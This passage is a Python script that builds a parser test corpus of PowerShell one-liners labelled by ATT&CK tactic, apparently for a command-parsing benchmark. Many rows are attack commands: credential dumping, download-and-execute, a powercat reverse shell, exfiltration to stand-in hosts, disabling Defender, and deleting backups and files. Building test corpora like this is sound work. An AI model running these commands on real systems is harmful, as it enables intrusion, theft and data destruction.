#!/usr/bin/env python3
"""Regenerate the bundled parser fixture corpus.

One-liner commands in the style of Atomic Red Team, Stockpile, Empire, and
security wikis, each paired with a natural-language intent and an ATT&CK
tactic. Six reference rows deliberately carry <stub> placeholder templates;
every other row must parse without ParseError, which this script asserts
before writing tests/fixtures/parser_corpus.jsonl.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))

from psbench import psparse  # noqa: E402

ART = "atomic-red-team"
STK = "stockpile"
EMP = "empire"
ONL = "online"
OTH = "other"

# (tactic, source, intent, command)
ENTRIES = [
    # --- Discovery -------------------------------------------------------
    ("Discovery", STK, "List all running processes.", "Get-Process"),
    ("Discovery", STK, "Show the name and id of every process.",
     "Get-Process | Select-Object Name, Id"),
    ("Discovery", OTH, "List services that are currently running.",
     "Get-Service | Where-Object { $_.Status -eq 'Running' }"),
    ("Discovery", ART, "Recursively list the user profile directories, ignoring errors.",
     "Get-ChildItem C:\\Users -Recurse -ErrorAction SilentlyContinue"),
    ("Discovery", STK, "Query WMI for the computer system details.",
     "Get-WmiObject -Class Win32_ComputerSystem"),
    ("Discovery", STK, "Report the operating system caption and version.",
     "Get-WmiObject Win32_OperatingSystem | Select-Object Caption, Version"),
    ("Discovery", ART, "Enumerate local user accounts.", "Get-LocalUser"),
    ("Discovery", ART, "List the members of the local Administrators group.",
     "Get-LocalGroupMember -Group Administrators"),
    ("Discovery", ONL, "Show TCP sockets in the listening state.",
     "Get-NetTCPConnection -State Listen"),
    ("Discovery", OTH, "List installed hotfixes with their install dates.",
     "Get-HotFix | Select-Object HotFixID, InstalledOn"),
    ("Discovery", ONL, "Read installed application names from the uninstall registry key.",
     "Get-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Select-Object DisplayName"),
    ("Discovery", OTH, "Dump all environment variables sorted by name.",
     "Get-ChildItem Env: | Sort-Object Name"),
    ("Discovery", STK, "Print the current user and the host name.",
     "whoami ; hostname"),
    ("Discovery", OTH, "Show the current date and configured time zone.",
     "Get-Date ; Get-TimeZone"),
    ("Discovery", OTH, "Send a single ping to the loopback host.",
     "Test-Connection -ComputerName localhost -Count 1"),
    ("Discovery", ONL, "Resolve the DNS records for example.com.",
     "Resolve-DnsName example.com"),
    ("Discovery", ART, "Enumerate SMB shares exposed by this machine.", "Get-SmbShare"),
    ("Discovery", OTH, "List filesystem drives with their free space.",
     "Get-PSDrive -PSProvider FileSystem"),
    ("Discovery", ART, "List scheduled tasks that are ready to run.",
     "Get-ScheduledTask | Where-Object { $_.State -eq 'Ready' } | Select-Object TaskName"),
    ("Discovery", ONL, "Fetch the ten newest Security event log entries.",
     "Get-EventLog -LogName Security -Newest 10"),
    ("Discovery", STK, "Show IP addresses with their interface aliases.",
     "Get-NetIPAddress | Select-Object IPAddress, InterfaceAlias"),
    ("Discovery", STK, "List network adapters and their MAC addresses.",
     "Get-NetAdapter | Select-Object Name, MacAddress"),
    ("Discovery", ONL, "Inspect the ACL protecting the SAM hive file.",
     "Get-Acl C:\\Windows\\System32\\config\\SAM | Format-List"),
    ("Discovery", OTH, "Read the OS version through the .NET environment class.",
     "[System.Environment]::OSVersion.Version"),
    ("Discovery", ART, "Search every drive for KeePass database files.",
     "Get-ChildItem -Path C:\\ -Include *.kdbx -Recurse -ErrorAction SilentlyContinue"),
    ("Discovery", ART, "Enumerate local accounts with the net utility.", "net user"),
    ("Discovery", ART, "List local administrators with the net utility.",
     "net localgroup administrators"),
    ("Discovery", STK, "Display the full IP configuration.", "ipconfig /all"),
    ("Discovery", STK, "Collect a full system information report.", "systeminfo"),
    ("Discovery", ONL, "Dump the ARP cache for every interface.", "arp -a"),
    ("Discovery", ONL, "Enumerate trusted domains with nltest.", "nltest /domain_trusts"),
    ("Discovery", OTH, "Show interactive sessions on the host.", "query user"),
    ("Discovery", STK, "List running tasks verbosely.", "tasklist /v"),
    ("Discovery", ONL, "Show active connections with owning process ids.", "netstat -ano"),
    ("Discovery", OTH, "Measure how many files sit in the temp directory.",
     "Get-ChildItem $env:TEMP | Measure-Object"),
    ("Discovery", ONL, "Check whether the host firewall is enabled per profile.",
     "Get-NetFirewallProfile | Select-Object Name, Enabled"),
    ("Discovery", OTH, "Summarize the computer and OS names.",
     "Get-ComputerInfo | Select-Object CsName, OsName"),
    ("Discovery", STK, "Print the IPv4 routing table.", "route print"),
    # --- Credential Access ------------------------------------------------
    ("Credential Access", EMP, "Dump credentials with the Mimikatz module.",
     "Invoke-Mimikatz -DumpCreds"),
    ("Credential Access", ART, "Invoke-Mimikatz cmdlet with bypassed execution policy.",
     'powershell.exe -exec bypass -c "Invoke-Mimikatz"'),
    ("Credential Access", OTH, "Find the process id of lsass.",
     "Get-Process lsass | Select-Object Id"),
    ("Credential Access", ART, "Dump lsass memory with the comsvcs MiniDump export.",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"),
    ("Credential Access", ART, "Save the SAM registry hive to a file.",
     "reg save HKLM\\SAM C:\\temp\\sam.hive"),
    ("Credential Access", ART, "Save the SYSTEM registry hive to a file.",
     "reg save HKLM\\SYSTEM C:\\temp\\system.hive"),
    ("Credential Access", EMP, "Download the Mimikatz binary to the temp folder.",
     "Invoke-WebRequest -Uri http://127.0.0.1/mimikatz.exe -OutFile C:\\temp\\m.exe"),
    ("Credential Access", ONL, "Search user profiles for KeePass vaults.",
     "Get-ChildItem C:\\Users -Recurse -Include *.kdbx -ErrorAction SilentlyContinue"),
    ("Credential Access", ONL, "Grep user text files for the word password.",
     "findstr /S /I password C:\\Users\\*.txt"),
    ("Credential Access", ONL, "Read autologon credentials from the Winlogon key.",
     "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' | Select-Object DefaultUserName, DefaultPassword"),
    ("Credential Access", ART, "List credentials stored by the credential manager.",
     "cmdkey /list"),
    ("Credential Access", ONL, "Enumerate Windows vault credentials.",
     'vaultcmd /listcreds:"Windows Credentials"'),
    ("Credential Access", EMP, "Dump credentials from the Windows Credential Manager.",
     "Invoke-WCMDump"),
    ("Credential Access", EMP, "Start a keylogger that writes to a log file.",
     "Get-Keystrokes -LogPath C:\\temp\\keys.log"),
    ("Credential Access", EMP, "Copy the SAM hive using raw volume reads.",
     "Invoke-NinjaCopy -Path C:\\Windows\\System32\\config\\SAM -LocalDestination C:\\temp\\sam"),
    ("Credential Access", EMP, "List tokens available for impersonation.",
     "Invoke-TokenManipulation -ShowAll"),
    ("Credential Access", EMP, "Recover cached group policy preference passwords.",
     "Get-CachedGPPPassword"),
    ("Credential Access", EMP, "Read credentials from the Windows vault.",
     "Get-VaultCredential"),
    ("Credential Access", EMP, "Request service tickets and extract kerberoast hashes.",
     "Invoke-Kerberoast | Select-Object Hash"),
    ("Credential Access", ONL, "Copy the Active Directory database file.",
     "Copy-Item C:\\Windows\\NTDS\\ntds.dit C:\\temp\\ntds.dit"),
    # --- Execution ---------------------------------------------------------
    ("Execution", ART, "Run a script file with the profile and execution policy bypassed.",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\temp\\run.ps1"),
    ("Execution", OTH, "Launch notepad.", "Start-Process notepad.exe"),
    ("Execution", ART, "Start a process with DirLister, wait for 4 seconds, and stop the DirLister process.",
     'Start-Process ${WebBrowserPassViewPath} ; Start-Sleep -Second 4 ; Stop-Process -Name "WebBrowserPassView"'),
    ("Execution", OTH, "Run a script block that prints the date.",
     "Invoke-Command -ScriptBlock { Get-Date }"),
    ("Execution", STK, "Run whoami on this machine through remoting.",
     "Invoke-Command -ComputerName localhost -ScriptBlock { whoami }"),
    ("Execution", EMP, "Download a stager and execute it in memory.",
     "iex (New-Object Net.WebClient).DownloadString('http://127.0.0.1/run.ps1')"),
    ("Execution", EMP, "Evaluate the command held in a variable.",
     "Invoke-Expression $command"),
    ("Execution", ART, "Spawn whoami through cmd.", "cmd.exe /c whoami"),
    ("Execution", ART, "Create a process via the wmic command line.",
     "wmic process call create notepad.exe"),
    ("Execution", ART, "Execute a remote HTA application.",
     "mshta.exe http://127.0.0.1/app.hta"),
    ("Execution", ONL, "Lock the workstation through rundll32.",
     "rundll32.exe user32.dll,LockWorkStation"),
    ("Execution", ART, "Register a remote scriptlet with regsvr32.",
     "regsvr32.exe /s /u /i:http://127.0.0.1/file.sct scrobj.dll"),
    ("Execution", OTH, "Start a background job that sleeps five seconds.",
     "Start-Job -ScriptBlock { Start-Sleep -Seconds 5 }"),
    ("Execution", OTH, "Print the name of each running process.",
     "Get-Process | ForEach-Object { $_.Name }"),
    ("Execution", ART, "Trigger a scheduled task by name.",
     "schtasks /run /tn AtomicTask"),
    ("Execution", ART, "Install a package quietly from a remote MSI.",
     "msiexec /q /i http://127.0.0.1/pkg.msi"),
    ("Execution", ART, "Run a VBScript with cscript.", "cscript.exe C:\\temp\\script.vbs"),
    ("Execution", ART, "Run a JScript file with wscript.", "wscript.exe C:\\temp\\script.js"),
    ("Execution", STK, "Create a process through the WMI Win32_Process class.",
     "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList notepad.exe"),
    ("Execution", OTH, "Run the calculator elevated-looking binary from System32.",
     "Start-Process C:\\Windows\\System32\\calc.exe"),
    ("Execution", EMP, "Execute a base64-encoded command.",
     "powershell.exe -EncodedCommand SQBuAHYAbwBrAGUALQBNAGkAbQBpAGsAYQB0AHoA"),
    ("Execution", OTH, "Measure how long a directory listing takes.",
     "Measure-Command { Get-ChildItem C:\\Windows }"),
    ("Execution", ART, "Run Get-Date under the downgraded version 2 engine.",
     "powershell.exe -Version 2 -Command Get-Date"),
    # --- Persistence -------------------------------------------------------
    ("Persistence", ART, "Create a logon scheduled task that runs a beacon.",
     "schtasks /create /tn Updater /tr C:\\temp\\beacon.exe /sc onlogon"),
    ("Persistence", OTH, "Define a scheduled task action that starts the calculator.",
     "New-ScheduledTaskAction -Execute calc.exe"),
    ("Persistence", ART, "Register a scheduled task from prepared action and trigger objects.",
     "Register-ScheduledTask -TaskName Cleaner -Action $action -Trigger $trigger"),
    ("Persistence", ART, "Persist an agent through the user Run registry key.",
     "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value C:\\temp\\agent.exe"),
    ("Persistence", ART, "Add a machine Run key entry for a sync binary.",
     "New-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Sync -Value C:\\temp\\sync.exe -PropertyType String"),
    ("Persistence", ONL, "Drop the agent into the common startup folder.",
     "Copy-Item C:\\temp\\agent.exe 'C:\\Users\\Public\\Start Menu\\Programs\\Startup\\agent.exe'"),
    ("Persistence", ART, "Install a service pointing at a custom binary.",
     "New-Service -Name Telemetry -BinaryPathName C:\\temp\\svc.exe"),
    ("Persistence", ART, "Create the same service with the sc utility.",
     "sc.exe create Telemetry binPath= C:\\temp\\svc.exe"),
    ("Persistence", ART, "Create a local support account without a password.",
     "New-LocalUser -Name support -NoPassword"),
    ("Persistence", ART, "Add the support account to the administrators group.",
     "Add-LocalGroupMember -Group Administrators -Member support"),
    ("Persistence", ONL, "Stop the support account password from expiring.",
     "wmic useraccount where name='support' set passwordexpires=false"),
    ("Persistence", ONL, "Hide the agent binary with the hidden attribute.",
     "attrib +h C:\\temp\\agent.exe"),
    ("Persistence", OTH, "Open an inbound firewall door for the updater.",
     "New-NetFirewallRule -DisplayName Updater -Direction Inbound -Action Allow"),
    ("Persistence", ART, "Persist through the Run key using reg.exe.",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Agent /d C:\\temp\\agent.exe"),
    ("Persistence", OTH, "Force the print spooler service to start automatically.",
     "Set-Service -Name Spooler -StartupType Automatic"),
    ("Persistence", ONL, "Plant a symbolic link to the agent in the public profile.",
     "New-Item -ItemType SymbolicLink -Path C:\\Users\\Public\\link.lnk -Target C:\\temp\\agent.exe"),
    ("Persistence", OTH, "Register a scheduled job that copies data to a backup folder.",
     "Register-ScheduledJob -Name Backup -ScriptBlock { Copy-Item C:\\data C:\\backup -Recurse }"),
    ("Persistence", ONL, "Append an agent launch to the shared PowerShell profile.",
     "Add-Content C:\\Users\\Public\\Documents\\profile.ps1 'Start-Process C:\\temp\\agent.exe'"),
    # --- Privilege Escalation ----------------------------------------------
    ("Privilege Escalation", OTH, "Start an elevated PowerShell window.",
     "Start-Process powershell.exe -Verb RunAs"),
    ("Privilege Escalation", EMP, "Run every PowerUp privilege escalation check.",
     "Invoke-AllChecks"),
    ("Privilege Escalation", EMP, "Find services with unquoted image paths.",
     "Get-ServiceUnquoted"),
    ("Privilege Escalation", EMP, "Find service binaries the current user can overwrite.",
     "Get-ModifiableServiceFile"),
    ("Privilege Escalation", EMP, "Abuse a vulnerable service to add a local admin.",
     "Invoke-ServiceAbuse -Name VulnSvc -Command 'net localgroup Administrators support /add'"),
    ("Privilege Escalation", EMP, "Write a replacement service binary for the vulnerable service.",
     "Write-ServiceBinary -Name VulnSvc -Path C:\\temp\\svc.exe"),
    ("Privilege Escalation", EMP, "Spawn cmd.exe using a duplicated token.",
     "Invoke-TokenManipulation -CreateProcess 'cmd.exe'"),
    ("Privilege Escalation", ART, "Get the wininit process and perform token manipulation to create a new process for 'cmd.exe'.",
     "Get-Process wininit | Invoke-TokenManipulation -CreateProcess 'cmd.exe'"),
    ("Privilege Escalation", STK, "List the privileges held by the current token.",
     "whoami /priv"),
    ("Privilege Escalation", ONL, "Inspect the ACL of a suspicious service registry key.",
     "Get-Acl HKLM:\\SYSTEM\\CurrentControlSet\\Services\\VulnSvc | Format-List"),
    ("Privilege Escalation", ONL, "Show the permissions on the Program Files application folder.",
     "icacls 'C:\\Program Files\\App'"),
    ("Privilege Escalation", ART, "Prepare the fodhelper UAC bypass registry key.",
     "New-Item -Path 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Force"),
    ("Privilege Escalation", ART, "Clear the DelegateExecute value for the fodhelper bypass.",
     "Set-ItemProperty -Path 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name DelegateExecute -Value ''"),
    ("Privilege Escalation", ART, "Launch fodhelper to trigger the elevated handler.",
     "Start-Process fodhelper.exe -WindowStyle Hidden"),
    ("Privilege Escalation", EMP, "Look for credentials in unattended install files.",
     "Get-UnattendedInstallFile"),
    ("Privilege Escalation", EMP, "Check whether AlwaysInstallElevated is enabled.",
     "Get-RegistryAlwaysInstallElevated"),
    ("Privilege Escalation", EMP, "Hunt IIS web.config files for connection strings.",
     "Get-WebConfig"),
    ("Privilege Escalation", ONL, "Take ownership of a protected system DLL.",
     "takeown /f C:\\Windows\\System32\\file.dll"),
    # --- Defense Evasion -----------------------------------------------------
    ("Defense Evasion", ART, "Turn off Defender real-time monitoring.",
     "Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("Defense Evasion", ART, "Exclude the temp folder from Defender scans.",
     "Add-MpPreference -ExclusionPath C:\\temp"),
    ("Defense Evasion", ART, "Relax the execution policy for this process.",
     "Set-ExecutionPolicy Bypass -Scope Process -Force"),
    ("Defense Evasion", ART, "Clear the Security event log with wevtutil.",
     "wevtutil cl Security"),
    ("Defense Evasion", ART, "Clear the Application event log.",
     "Clear-EventLog -LogName Application"),
    ("Defense Evasion", OTH, "Delete everything under the temp staging folder.",
     "Remove-Item C:\\temp\\* -Recurse -Force"),
    ("Defense Evasion", OTH, "Remove the dropped payload from the user temp directory.",
     "Remove-Item -Path $env:TEMP\\payload.ps1 -Force"),
    ("Defense Evasion", ART, "Disable the firewall on every profile via netsh.",
     "netsh advfirewall set allprofiles state off"),
    ("Defense Evasion", ART, "Force-stop the Defender service.",
     "Stop-Service -Name WinDefend -Force"),
    ("Defense Evasion", ONL, "Disable Defender through its policy registry value.",
     "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAntiSpyware -Value 1"),
    ("Defense Evasion", ART, "Base64-encode a payload with certutil.",
     "certutil -encode C:\\temp\\payload.exe C:\\temp\\payload.txt"),
    ("Defense Evasion", ART, "Decode the certutil-encoded payload back to a binary.",
     "certutil -decode C:\\temp\\payload.txt C:\\temp\\payload.exe"),
    ("Defense Evasion", ONL, "Masquerade cmd.exe as svchost in the temp folder.",
     "copy C:\\Windows\\System32\\cmd.exe C:\\temp\\svchost.exe"),
    ("Defense Evasion", ONL, "Rename the payload to look like an update blob.",
     "Rename-Item C:\\temp\\payload.exe C:\\temp\\update.bin"),
    ("Defense Evasion", ONL, "Mark the agent binary system and hidden.",
     "attrib +s +h C:\\temp\\agent.exe"),
    ("Defense Evasion", ART, "Delete the USN change journal.",
     "fsutil usn deletejournal /d C:"),
    ("Defense Evasion", ONL, "Set the system clock back to a canned date.",
     'Set-Date -Date "2020-01-01 12:00:00"'),
    ("Defense Evasion", ONL, "Timestomp the agent binary's creation time.",
     "(Get-Item C:\\temp\\agent.exe).CreationTime = '2019-01-01 08:00:00'"),
    ("Defense Evasion", OTH, "Delete an incriminating registry key quietly.",
     "reg delete HKCU\\Software\\Evidence /f"),
    ("Defense Evasion", OTH, "Remove the mark-of-the-web from a downloaded tool.",
     "Unblock-File C:\\temp\\tool.ps1"),
    ("Defense Evasion", ART, "Disable Defender scanning of downloaded files.",
     "Set-MpPreference -DisableIOAVProtection $true"),
    ("Defense Evasion", EMP, "Patch AMSI by loading the bypass module.",
     "Invoke-AmsiBypass -Technique reflection"),
    ("Defense Evasion", ONL, "Kill the Defender engine process.",
     "Stop-Process -Name MsMpEng -Force"),
    # --- Lateral Movement ----------------------------------------------------
    ("Lateral Movement", STK, "Run hostname on a remote machine over WinRM.",
     "Invoke-Command -ComputerName localhost -ScriptBlock { hostname }"),
    ("Lateral Movement", OTH, "Open an interactive remoting session.",
     "Enter-PSSession -ComputerName localhost"),
    ("Lateral Movement", OTH, "Create a reusable remoting session object.",
     "New-PSSession -ComputerName localhost"),
    ("Lateral Movement", ART, "Copy the agent to the admin share of the target.",
     "Copy-Item C:\\temp\\agent.exe '\\\\localhost\\C$\\temp\\agent.exe'"),
    ("Lateral Movement", ART, "Spawn cmd.exe on the target through wmic.",
     "wmic /node:localhost process call create cmd.exe"),
    ("Lateral Movement", ART, "Schedule a one-shot task on the remote host.",
     "schtasks /create /s localhost /tn Sync /tr C:\\temp\\agent.exe /sc once /st 00:00"),
    ("Lateral Movement", ART, "Install a service on the remote machine with sc.",
     "sc.exe \\\\localhost create RemoteSvc binPath= C:\\temp\\svc.exe"),
    ("Lateral Movement", STK, "Create a remote process through WMI.",
     "Invoke-WmiMethod -ComputerName localhost -Class Win32_Process -Name Create -ArgumentList cmd.exe"),
    ("Lateral Movement", ONL, "Run hostname remotely over WinRS.",
     "winrs -r:localhost hostname"),
    ("Lateral Movement", EMP, "Execute a command on the target with the PsExec module.",
     "Invoke-PsExec -ComputerName localhost -Command hostname"),
    ("Lateral Movement", OTH, "Map a drive letter to the target share.",
     "New-SmbMapping -LocalPath X: -RemotePath '\\\\localhost\\share'"),
    ("Lateral Movement", ONL, "Mount the admin share without persisting it.",
     'net use Z: "\\\\localhost\\C$" /persistent:no'),
    ("Lateral Movement", EMP, "Execute a payload over SMB on the target host.",
     "Invoke-SMBExec -Target 127.0.0.1 -Command whoami"),
    ("Lateral Movement", OTH, "Reboot the remote machine immediately.",
     "Restart-Computer -ComputerName localhost -Force"),
    ("Lateral Movement", EMP, "Launch the calculator on the target over DCOM.",
     "Invoke-DCOM -ComputerName localhost -Method MMC20.Application -Command calc.exe"),
    ("Lateral Movement", OTH, "Check whether WinRM answers on the target.",
     "Test-WSMan -ComputerName localhost"),
    ("Lateral Movement", ONL, "Open a remote desktop session to the target.",
     "mstsc /v:localhost"),
    # --- Collection -----------------------------------------------------------
    ("Collection", ART, "Read the current clipboard contents.", "Get-Clipboard"),
    ("Collection", ART, "Save the clipboard contents to a staging file.",
     "Get-Clipboard | Out-File C:\\temp\\clip.txt"),
    ("Collection", ONL, "Zip the public documents folder into the staging area.",
     "Compress-Archive -Path C:\\Users\\Public\\Documents -DestinationPath C:\\temp\\docs.zip"),
    ("Collection", ONL, "Stage every Word document found under user profiles.",
     "Get-ChildItem C:\\Users -Include *.docx -Recurse | Copy-Item -Destination C:\\temp\\stage"),
    ("Collection", ART, "Send the print-screen key to capture the screen.",
     "[System.Windows.Forms.SendKeys]::SendWait('%{PRTSC}')"),
    ("Collection", EMP, "Log keystrokes to a staging file.",
     "Get-Keystrokes -LogPath C:\\temp\\keys.txt"),
    ("Collection", OTH, "Start the sound recorder for ambient capture.",
     "Start-Process -FilePath soundrecorder.exe"),
    ("Collection", OTH, "Copy a notes file into the staging folder.",
     "Get-Content C:\\Users\\Public\\Documents\\notes.txt | Out-File C:\\temp\\stage\\notes.txt"),
    ("Collection", STK, "Record the PowerShell command history.",
     "Get-History | Out-File C:\\temp\\history.txt"),
    ("Collection", OTH, "Export recent System log entries to CSV.",
     "Get-EventLog -LogName System -Newest 50 | Export-Csv C:\\temp\\system.csv"),
    ("Collection", ONL, "List the full paths of spreadsheets under user profiles.",
     "dir C:\\Users -Recurse -Include *.xlsx | select FullName"),
    ("Collection", OTH, "Stage the public pictures folder.",
     "Copy-Item C:\\Users\\Public\\Pictures C:\\temp\\stage -Recurse"),
    ("Collection", OTH, "Create the staging directory.",
     "New-Item -ItemType Directory -Path C:\\temp\\stage -Force"),
    ("Collection", ONL, "Read a secret file through the .NET File class.",
     "[System.IO.File]::ReadAllText('C:\\temp\\secret.txt')"),
    ("Collection", ART, "Capture a webcam still with a capture utility.",
     "Start-Process C:\\temp\\camcap.exe -ArgumentList C:\\temp\\cam.jpg"),
    ("Collection", OTH, "Serialize the process list to XML for later diffing.",
     "Get-Process | Export-Clixml C:\\temp\\proc.xml"),
    # --- Command and Control ----------------------------------------------------
    ("Command and Control", EMP, "Poll the beacon endpoint with basic parsing.",
     "Invoke-WebRequest -Uri http://127.0.0.1:8080/beacon -UseBasicParsing"),
    ("Command and Control", EMP, "Fetch the next tasking from the REST endpoint.",
     "Invoke-RestMethod -Uri http://127.0.0.1/api/task"),
    ("Command and Control", ONL, "Open a TCP client to the handler port.",
     "New-Object System.Net.Sockets.TcpClient('127.0.0.1', 4444)"),
    ("Command and Control", ONL, "Create a TCP client and connect to the handler.",
     "$client = New-Object System.Net.Sockets.TcpClient ; $client.Connect('127.0.0.1', 4444)"),
    ("Command and Control", OTH, "Pull a file over BITS to the temp folder.",
     "Start-BitsTransfer -Source http://127.0.0.1/file.txt -Destination C:\\temp\\file.txt"),
    ("Command and Control", EMP, "Connect powercat to the handler and expose cmd.",
     "powercat -c 127.0.0.1 -p 4444 -e cmd.exe"),
    ("Command and Control", ONL, "Resolve the tunnel domain against a specific resolver.",
     "nslookup tunnel.example.com 127.0.0.1"),
    ("Command and Control", OTH, "Send a single ping to the c2 host.",
     "ping -n 1 c2.example.com"),
    ("Command and Control", EMP, "Download the command file from the c2.",
     "Invoke-WebRequest http://127.0.0.1/cmds.txt -OutFile C:\\temp\\cmds.txt"),
    ("Command and Control", EMP, "Download a binary with the WebClient class.",
     "$wc = New-Object System.Net.WebClient ; $wc.DownloadFile('http://127.0.0.1/a.exe', 'C:\\temp\\a.exe')"),
    ("Command and Control", ONL, "Beacon over SSH with a reverse port forward.",
     "ssh user@127.0.0.1 -R 8080:localhost:80"),
    ("Command and Control", ONL, "Fetch an update blob with the curl alias.",
     "curl http://127.0.0.1/update.bin -o C:\\temp\\update.bin"),
    ("Command and Control", ONL, "Blend in by requesting a script with a spoofed referer.",
     "Invoke-WebRequest -Uri https://127.0.0.1/jquery.js -Headers @{ Referer = 'https://cdn.example.com' }"),
    ("Command and Control", OTH, "Test whether the proxy lets HTTPS through.",
     "Test-NetConnection -ComputerName 127.0.0.1 -Port 443"),
    ("Command and Control", EMP, "Ask the c2 for sleep timing with a session id.",
     "Invoke-RestMethod -Uri http://127.0.0.1/api/sleep -Headers @{ Session = $sid }"),
    # --- Exfiltration -------------------------------------------------------------
    ("Exfiltration", ONL, "Zip the staging folder and post it to the drop server.",
     "Compress-Archive -Path C:\\temp\\stage -DestinationPath C:\\temp\\out.zip ; Invoke-WebRequest -Uri http://127.0.0.1/upload -Method Post -InFile C:\\temp\\out.zip"),
    ("Exfiltration", ONL, "Post the keylog contents to the drop endpoint.",
     "Invoke-RestMethod -Uri http://127.0.0.1/drop -Method Post -Body (Get-Content C:\\temp\\keys.txt -Raw)"),
    ("Exfiltration", OTH, "Mail the archive through the relay host.",
     "Send-MailMessage -To a@example.com -From b@example.com -Subject data -Attachments C:\\temp\\out.zip -SmtpServer 127.0.0.1"),
    ("Exfiltration", ONL, "Base64 the archive for text-channel exfil.",
     "[System.Convert]::ToBase64String([System.IO.File]::ReadAllBytes('C:\\temp\\out.zip')) | Out-File C:\\temp\\out.b64"),
    ("Exfiltration", ONL, "Leak a chunk of data inside a DNS lookup.",
     "nslookup exfil-chunk1.tunnel.example.com"),
    ("Exfiltration", OTH, "Copy the archive to the share used as a dead drop.",
     "Copy-Item C:\\temp\\out.zip '\\\\localhost\\share\\out.zip'"),
    ("Exfiltration", OTH, "Upload the archive over BITS.",
     "Start-BitsTransfer -Source C:\\temp\\out.zip -Destination http://127.0.0.1/up -TransferType Upload"),
    ("Exfiltration", ART, "Wrap the archive in base64 with certutil before exfil.",
     "certutil -encode C:\\temp\\out.zip C:\\temp\\out.b64"),
    ("Exfiltration", ONL, "Push the archive to the FTP drop.",
     "Invoke-WebRequest -Uri ftp://127.0.0.1/out.zip -Method Put -InFile C:\\temp\\out.zip"),
    ("Exfiltration", ONL, "Read the archive bytes and upload them with the web client.",
     "$bytes = Get-Content C:\\temp\\out.zip -Encoding Byte ; $web.UploadData('http://127.0.0.1/up', $bytes)"),
    ("Exfiltration", OTH, "Append the hostname to the exfil manifest.",
     "hostname | Out-File -Append C:\\temp\\manifest.txt"),
    # --- Impact ----------------------------------------------------------------------
    ("Impact", ART, "Delete every volume shadow copy quietly.",
     "vssadmin delete shadows /all /quiet"),
    ("Impact", ART, "Delete the backup catalog without prompting.",
     "wbadmin delete catalog -quiet"),
    ("Impact", ART, "Disable automatic Windows recovery at boot.",
     "bcdedit /set {default} recoveryenabled No"),
    ("Impact", OTH, "Wipe the public documents tree.",
     "Remove-Item C:\\Users\\Public\\Documents\\* -Recurse -Force"),
    ("Impact", ONL, "Overwrite free space on the staging drive.",
     "cipher /w:C:\\temp"),
    ("Impact", OTH, "Stop the SQL Server service by force.",
     "Stop-Service -Name MSSQLSERVER -Force"),
    ("Impact", OTH, "Kill the SQL Server process outright.",
     "Stop-Process -Name sqlservr -Force"),
    ("Impact", OTH, "Empty the recycle bin for all drives.",
     "Clear-RecycleBin -Force"),
    ("Impact", ONL, "Quick-format the external data volume.",
     "format E: /q /y"),
    ("Impact", ART, "Reboot the machine with no delay.",
     "shutdown /r /t 0"),
    ("Impact", ONL, "Drop a ransom note on the public desktop.",
     "Set-Content C:\\Users\\Public\\Desktop\\README.txt 'files encrypted'"),
    ("Impact", ONL, "Rename every data file with a .locked suffix.",
     "Get-ChildItem C:\\data -Recurse | ForEach-Object { Rename-Item $_.FullName ($_.FullName + '.locked') }"),
    ("Impact", OTH, "Disable the Windows recovery environment.",
     "reagentc /disable"),
    # --- Initial Access ----------------------------------------------------------------
    ("Initial Access", ONL, "Open the lure HTA from the phishing server.",
     "mshta.exe http://127.0.0.1/lure.hta"),
    ("Initial Access", ONL, "Run the double-extension invoice lure.",
     "Start-Process C:\\Users\\Public\\Downloads\\invoice.pdf.exe"),
    ("Initial Access", ONL, "Download the macro-enabled lure document.",
     "Invoke-WebRequest -Uri http://127.0.0.1/lure.docm -OutFile C:\\Users\\Public\\Downloads\\lure.docm"),
    ("Initial Access", ART, "Invoke the dropped DLL's entry point.",
     "rundll32.exe C:\\Users\\Public\\Downloads\\payload.dll,DllMain"),
    ("Initial Access", OTH, "Open the shortcut delivered by the phish.",
     "explorer.exe C:\\Users\\Public\\Downloads\\lure.lnk"),
    ("Initial Access", OTH, "Unpack the malicious attachment archive.",
     "Expand-Archive C:\\Users\\Public\\Downloads\\attachment.zip C:\\Users\\Public\\Downloads\\attachment"),
    ("Initial Access", OTH, "Open the lure document in Word.",
     "Start-Process winword.exe -ArgumentList C:\\Users\\Public\\Downloads\\lure.docm"),
    ("Initial Access", ONL, "Strip the zone identifier from the lure before opening it.",
     "Unblock-File C:\\Users\\Public\\Downloads\\lure.docm"),
    # --- stub-template reference rows (expected ParseError) -----------------------------
    ("Execution", ART, "Run an arbitrary command through powershell.exe.",
     "powershell.exe -Command <command>"),
    ("Execution", STK, "Evaluate generated code in the current session.",
     "Invoke-Expression <code>"),
    ("Execution", STK, "Start a process from a caller-supplied path.",
     "Start-Process <path>"),
    ("Persistence", ART, "Create a scheduled task with caller-supplied name and command.",
     "schtasks /create /tn <task_name> /tr <command>"),
    ("Command and Control", EMP, "Download a file from a caller-supplied URL to a destination.",
     "Invoke-WebRequest -Uri <url> -OutFile <path>"),
    ("Persistence", ART, "Write a caller-supplied value under a registry key.",
     "Set-ItemProperty -Path <registry_key> -Name <value_name> -Value <value>"),
]


def main() -> None:
    out_path = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "parser_corpus.jsonl"
    out_path.parent.mkdir(parents=True, exist_ok=True)

    stub_rows = 0
    with out_path.open("w", encoding="utf-8") as fh:
        for index, (tactic, source, intent, command) in enumerate(ENTRIES, start=1):
            analysis = psparse.analyze(command)
            if analysis.has_stub_template:
                stub_rows += 1
                assert analysis.parse_errors, command
            else:
